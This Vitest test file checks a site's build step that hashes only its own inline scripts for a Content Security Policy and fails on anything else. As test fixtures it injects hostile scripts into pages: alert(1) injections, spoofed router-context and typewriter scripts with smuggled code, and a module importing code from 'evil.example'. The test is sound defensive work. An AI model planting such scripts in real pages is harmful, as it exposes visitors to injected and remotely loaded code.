/**
 * Only the site's own inline scripts get a CSP hash; any other inline script fails the build.
 * Pages built like the real ones: the registry's <head> boot scripts, React Router's
 * context, the deferred loader, the data feeder, the typewriter, and data blocks that are not scripts.
 */
import { describe, expect, it } from 'vitest'
import { headScripts, typewriterScript } from '#app/boot/serialise.ts'
import { LATIN_RANGE } from '#app/boot/web-fonts.ts'
import { DEFERRED_LOADER } from '#scripts/build/postbuild/defer-hydration.ts'
import {
  HEAD_SCRIPTS,
  InlineScriptError,
  siteInlineScriptHashes,
} from '#scripts/build/postbuild/inline-scripts.ts'
import { STREAM_FEEDER } from '#scripts/build/postbuild/stream-data.ts'
import { sha256Source } from '#server/security-headers.ts'

const webFonts = (url: string) => ({
  files: [{ family: 'Inter Variable', url, weight: '100 900' }],
  unicodeRange: LATIN_RANGE,
  storageKey: 'web-fonts',
  className: 'web-fonts',
  manifest: '/site.webmanifest',
})
const [THEME = '', FONTS = '', TAPS = ''] = headScripts(webFonts('/assets/inter-1.woff2')).map(
  (s) => s.source,
)
const CONTEXT =
  'window.__reactRouterContext = {"basename":"/","ssr":false,"isSpaMode":false};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());'
const TYPEWRITER = typewriterScript()

const script = (body: string, attributes = '') => `<script${attributes}>${body}</script>`
function page({ head = [THEME, FONTS, TAPS], main = '', typewriter = false } = {}) {
  return (
    `<!DOCTYPE html><html><head><meta charset="utf-8">${head.map((b) => script(b)).join('')}` +
    `${script('{"@type":"Person","name":"</scr"}', ' type="application/ld+json"')}</head>` +
    `<body><main>${typewriter ? `<span>hi</span>${script(TYPEWRITER)}` : ''}${main}</main>` +
    `${script(CONTEXT)}${script('{"preloads":[]}', ' type="application/json" id="hydration-modules"')}` +
    `${script(DEFERRED_LOADER, ' type="module" async=""')}` +
    `${script('"[1]"', ' type="application/json" data-router-stream')}${script(STREAM_FEEDER)}</body></html>`
  )
}
const PAGES = new Set(['index.html', 'blog/1/index.html', '404.html'])
const site = (overrides: Record<string, string> = {}) => ({
  'index.html': page({ typewriter: true }),
  'blog/1/index.html': page(),
  '404.html': page(),
  'admin/index.html': '<html><head><script src="/admin/sveltia-cms.js"></script></head><body></body></html>',
  ...overrides,
})
const problems = (files: Record<string, string>) => {
  try {
    siteInlineScriptHashes(files, PAGES)
    return []
  } catch (error) {
    expect(error).toBeInstanceOf(InlineScriptError)
    return (error as Error).message.split('\n- ').slice(1)
  }
}

describe('siteInlineScriptHashes', () => {
  it("hashes each page's own scripts and nothing else (data blocks need no hash)", () => {
    const hashes = siteInlineScriptHashes(site(), PAGES)
    const shell = [THEME, FONTS, TAPS].map(sha256Source)
    const tail = [CONTEXT, DEFERRED_LOADER, STREAM_FEEDER].map(sha256Source)
    expect(hashes['blog/1/index.html']).toEqual([...shell, ...tail])
    expect(hashes['index.html']).toEqual([...shell, sha256Source(TYPEWRITER), ...tail])
    expect(hashes['admin/index.html']).toEqual([])
    expect(HEAD_SCRIPTS.map((s) => s.name)).toEqual([
      'the theme',
      'the web fonts and the manifest',
      'the theme taps before hydration',
    ])
  })

  it.each([
    ['a script element from content', '<p>hi</p><script>alert(1)</script>'],
    ['an upper-case one with attributes', '<SCRIPT type="text/javascript" defer>alert(1)</SCRIPT >'],
    ['a module', '<script type="module">import("https://evil.example/x.js")</script>'],
    ['one posing as React Router context', `<script>${CONTEXT}alert(1)</script>`],
    [
      'one posing as the context with code in its value',
      '<script>window.__reactRouterContext = alert(1);</script>',
    ],
    [
      'the typewriter with code for its argument',
      `<script>${TYPEWRITER.replace('{"charMs"', 'alert(1)||{"charMs"')}</script>`,
    ],
    [
      'the typewriter with another argument',
      `<span>x</span><script>${TYPEWRITER.replace('"charMs":50', '"charMs":5')}</script>`,
    ],
  ])('fails the build on %s', (_what, injected) => {
    const found = problems(site({ 'blog/1/index.html': page({ main: injected }) }))
    expect(found.length).toBeGreaterThan(0)
    expect(found.join('\n')).toMatch(/^blog\/1\/index\.html: /)
  })

  it("fails on a <head> script that is not the registry's", () => {
    expect(problems(site({ '404.html': page({ head: [THEME, 'alert(1)', TAPS] }) }))).toEqual([
      '404.html: <head> script 2 is not the web fonts and the manifest: "alert(1)"',
    ])
    expect(problems(site({ '404.html': page({ head: [THEME, FONTS, TAPS, 'x()'] }) }))[0]).toMatch(
      /^404\.html: 4 inline scripts in <head>, the registry has 3/,
    )
    expect(problems(site({ '404.html': page({ head: [FONTS, THEME, TAPS] }) }))[0]).toMatch(
      /^404\.html: <head> script 1 is not the theme/,
    )
    const otherFonts = headScripts(webFonts('/assets/inter-2.woff2'))[1]?.source ?? ''
    expect(problems(site({ '404.html': page({ head: [THEME, otherFonts, TAPS] }) }))[0]).toMatch(
      /^404\.html: the web fonts and the manifest differs from the one in /,
    )
  })

  it('fails on any inline script in a page without the shell (the CMS)', () => {
    expect(
      problems(
        site({ 'admin/index.html': '<html><head></head><body><script>alert(1)</script></body></html>' }),
      ),
    ).toEqual(['admin/index.html: an inline script that is not the site\'s own: "alert(1)"'])
    expect(
      problems(
        site({ 'admin/index.html': `<html><head><script>${THEME}</script></head><body></body></html>` }),
      ),
    ).toEqual([`admin/index.html: an inline script in <head>: ${JSON.stringify(`${THEME.slice(0, 80)}…`)}`])
  })
})
